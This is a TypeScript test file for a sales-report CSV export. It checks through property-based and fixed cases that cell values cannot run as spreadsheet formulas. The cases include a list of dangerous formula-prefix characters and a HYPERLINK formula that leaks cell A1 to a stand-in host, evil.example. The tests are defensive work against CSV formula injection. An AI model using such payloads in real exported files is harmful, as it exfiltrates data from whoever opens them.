@@ -1,0 +1,181 @@
+import { buffer } from 'node:stream/consumers'
+import fc from 'fast-check'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { CsvFile } from '../../../server/sales-reports/csv/csv-file.ts'
+import { insertAgencies, insertSalesReports } from '../../support/directory.ts'
+import { readCsv, shareCsv } from '../../support/shared-csv.ts'
+import { startTestApi, type TestApi } from '../../support/test-api.ts'
+
+let test: TestApi
+let path: string
+let agencyId: number
+
+beforeAll(async () => {
+  test = await startTestApi({ environment: { RATE_LIMITS: 'export-address=100000/1m' } })
+  const { headers } = await test.signIn()
+  ;[agencyId = 0] = await insertAgencies(test.database.pool, [{ city: 'Knoxville', state: 'TN' }])
+  path = await shareCsv(test, headers, { agency_id: String(agencyId) })
+})
+
+afterAll(() => test.close())
+
+interface Cells {
+  account_name: string | null
+  dealer_name: string | null
+  status: string | null
+}
+
+/** The CSV of an agency that has these sales reports and no others. */
+async function csvOf(reports: Cells[]): Promise<Buffer> {
+  await test.database.pool.query('delete from sales_reports')
+  await insertSalesReports(
+    test.database.pool,
+    reports.map((report) => ({ agency_id: agencyId, ...report })),
+  )
+  const answer = await test.api.inject(path)
+  expect(answer.statusCode).toBe(200)
+  return answer.rawPayload
+}
+
+const headings = ['Account', 'City', 'State', 'Vendor', 'First purchase', 'Last purchase', 'Status']
+
+const dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
+const awkward = [
+  ...dangerous,
+  '"',
+  '""',
+  ',',
+  ';',
+  "'",
+  '\r\n',
+  '\\',
+  '\\.',
+  ' ',
+  'é',
+  '漢',
+  '👩‍🚒',
+  '\u2028',
+  '\uFEFF',
+]
+// PostgreSQL keeps every character but NUL.
+const anyText = fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\0', ''))
+const text = fc.oneof(
+  anyText,
+  fc.string({ unit: fc.constantFrom(...awkward, 'a', '1') }),
+  fc.tuple(fc.constantFrom(...dangerous), anyText).map((parts) => parts.join('')),
+  fc.string({ unit: fc.constantFrom('+', '1', '0', ' ', '-', '(', ')') }),
+)
+const cell = fc.option(text, { freq: 10 })
+const report = fc.record({ account_name: cell, dealer_name: cell, status: cell })
+
+/** What a spreadsheet shows for a cell: the value of a formula that joins literals, else the cell itself. */
+function shown(cell: string): string {
+  const literal = /"((?:[^"]|"")*)"|CHAR\((\d+)\)/g
+  if (!/^="/.test(cell)) return cell
+  expect(cell.slice(1).replaceAll(literal, '')).toMatch(/^&*$/)
+  const parts = Array.from(cell.matchAll(literal), ([, text, code]) =>
+    code === undefined ? (text ?? '').replaceAll('""', '"') : String.fromCharCode(Number(code)),
+  )
+  for (const part of parts) expect([...part].length).toBeLessThanOrEqual(200)
+  return parts.join('')
+}
+
+/** Pieces that Excel takes for cells where its list separator is a semicolon and quotes are not at the start. */
+const piecesAtSemicolons = (csv: Buffer) =>
+  csv
+    .toString()
+    .replace('\uFEFF', '')
+    .split(/[;\t\r\n]/)
+
+it('whatever the cells hold, a spreadsheet shows just that, and runs no other formula [REPORT-13, REPORT-14]', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(report, { maxLength: 20 }), async (reports) => {
+      const csv = await csvOf(reports)
+      const [first, ...rows] = readCsv(csv)
+      expect(first).toEqual(headings)
+      expect(rows.map((cells) => cells.map(shown))).toEqual(
+        reports.map(({ account_name, dealer_name, status }) => [
+          ...[account_name ?? '', 'Knoxville', 'TN', dealer_name ?? '', '', '', status ?? ''],
+        ]),
+      )
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*(=(?!")|[-+@＝＋－＠])/)
+      for (const piece of piecesAtSemicolons(csv))
+        expect(piece).not.toMatch(/^[\s"']*([-+@＝＋－＠]|=(?!""))/)
+    }),
+    { numRuns: 150 },
+  )
+})
+
+it.each([
+  ['=1+1', '="=1+1"'],
+  ['=HYPERLINK("http://evil.example?"&A1,"Click")', '="=HYPERLINK(""http://evil.example?""&A1,""Click"")"'],
+  [';=1+1', '=""&CHAR(59)&"=1+1"'],
+  ['x\n=1+1', '="x"&CHAR(10)&"=1+1"'],
+  ['-2+3', '="-2+3"'],
+  ['@SUM(A1:A9)', '="@SUM(A1:A9)"'],
+  ['\t=1+1', '=""&CHAR(9)&"=1+1"'],
+  ['＝1+1', '="＝1+1"'],
+  ['+', '="+"'],
+  ['+615-555-0100', '="+615-555-0100"'],
+  ['+1 615 555 0100', '="+1 615 555 0100"'],
+  ['0012', '="0012"'],
+  ['1/2', '="1/2"'],
+  ['1E5', '="1E5"'],
+  ['12345678901234567890', '="12345678901234567890"'],
+  ['$1,000.50', '="$1,000.50"'],
+  ['TRUE', '="TRUE"'],
+  ['May 2020', '="May 2020"'],
+  ['3-Mar', '="3-Mar"'],
+  ['10:30 PM', '="10:30 PM"'],
+  ['3M Company', '3M Company'],
+  ['Maybe 3', 'Maybe 3'],
+  ['Baker, Finch & Sons; Paper', 'Baker, Finch & Sons; Paper'],
+  ["'quoted'", "'quoted'"],
+  ['A=B', 'A=B'],
+  ['True North Supply', 'True North Supply'],
+])('the cell %j is written as %j [REPORT-13]', async (value, written) => {
+  const [, row] = readCsv(await csvOf([{ account_name: null, dealer_name: value, status: null }]))
+  expect(row?.[3]).toBe(written)
+})
+
+it('is UTF-8 with a byte order mark, its rows end with CR LF, dates are years, months and days [REPORT-14]', async () => {
+  await test.database.pool.query('delete from sales_reports')
+  await insertSalesReports(test.database.pool, [
+    {
+      agency_id: agencyId,
+      account_name: 'Cañon City',
+      dealer_name: 'Baker, "Finch"',
+      first_purchase_date: '2020-02-29',
+      status: '',
+    },
+  ])
+  const { rawPayload } = await test.api.inject(path)
+  expect(rawPayload.toString()).toBe(
+    '\uFEFFAccount,City,State,Vendor,First purchase,Last purchase,Status\r\n' +
+      'Cañon City,Knoxville,TN,"Baker, ""Finch""",2020-02-29,,""\r\n',
+  )
+})
+
+it('is the same however its bytes arrive [REPORT-14]', async () => {
+  const csv = fc.string({ unit: fc.constantFrom('"', '\n', '\r', ',', 'a', 'é') })
+  await fc.assert(
+    fc.asyncProperty(csv, fc.array(fc.nat(40)), async (written, cuts) => {
+      const bytes = Buffer.from(written)
+      const whole = await throughFile([bytes])
+      const places = [0, ...cuts.map((cut) => cut % (bytes.length + 1)).sort((a, b) => a - b), bytes.length]
+      const parts = places.slice(1).map((end, index) => bytes.subarray(places[index], end))
+      expect(await throughFile(parts)).toEqual(whole)
+      const quoted = written
+        .split('"')
+        .map((part, index) => (index % 2 ? part : part.replaceAll('\n', '\r\n')))
+      expect(whole.toString()).toBe(`\uFEFF${quoted.join('"')}`)
+    }),
+  )
+})
+
+function throughFile(parts: Buffer[]): Promise<Buffer> {
+  const file = new CsvFile()
+  for (const part of parts) file.write(part)
+  file.end()
+  return buffer(file)
+}
